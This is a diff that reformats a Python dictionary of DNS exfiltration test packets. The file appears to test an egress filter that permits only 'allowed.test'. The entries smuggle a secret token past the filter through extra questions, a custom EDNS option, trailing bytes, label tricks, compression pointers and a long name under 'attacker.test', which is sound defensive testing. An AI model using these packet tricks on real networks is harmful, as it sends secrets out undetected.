@@ -290,7 +290,12 @@ for _way, _ask in WAYS.items():
 STOWAWAYS = {
     "second question": lambda aim: question("allowed.test", count=2, extra=question(aim.secret_name)[12:]),
     "option": lambda aim: question(
-        "allowed.test", more=1, extra=b"\0" + struct.pack(">HHIH", 41, 4096, 0, 4 + len(aim.token)) + struct.pack(">HH", 65001, len(aim.token)) + aim.secret
+        "allowed.test",
+        more=1,
+        extra=b"\0"
+        + struct.pack(">HHIH", 41, 4096, 0, 4 + len(aim.token))
+        + struct.pack(">HH", 65001, len(aim.token))
+        + aim.secret,
     ),
     "trailing bytes": lambda aim: question("allowed.test", extra=aim.secret),
     "class": lambda aim: question(aim.secret_name, TXT, cls=3),
@@ -299,9 +304,15 @@ STOWAWAYS = {
     "upper case": lambda aim: question(aim.secret_name.upper()),
     "long name": lambda aim: question(f"{aim.token}.{'a' * 60}.{'b' * 60}.attacker.test"),
     "below an exact name": lambda aim: question(f"{aim.token}.allowed.test"),
-    "dots inside of a label": lambda aim: question("x")[:12] + bytes([len(aim.token) + 13]) + aim.secret + b".allowed.test" + b"\0\0\1\0\1",
-    "null inside of a label": lambda aim: question("x")[:12] + bytes([len(aim.token) + 1]) + aim.secret + b"\0" + b"\7allowed\4test\0\0\1\0\1",
-    "pointer": lambda aim: question("x")[:12] + bytes([len(aim.token)]) + aim.secret + b"\xc0\x0c" + b"\0\1\0\1" + b"\7allowed\4test\0",
+    "dots inside of a label": lambda aim: (
+        question("x")[:12] + bytes([len(aim.token) + 13]) + aim.secret + b".allowed.test" + b"\0\0\1\0\1"
+    ),
+    "null inside of a label": lambda aim: (
+        question("x")[:12] + bytes([len(aim.token) + 1]) + aim.secret + b"\0" + b"\7allowed\4test\0\0\1\0\1"
+    ),
+    "pointer": lambda aim: (
+        question("x")[:12] + bytes([len(aim.token)]) + aim.secret + b"\xc0\x0c" + b"\0\1\0\1" + b"\7allowed\4test\0"
+    ),
 }
 for _way in ("udp", "tcp"):
     for _what, _packet in STOWAWAYS.items():
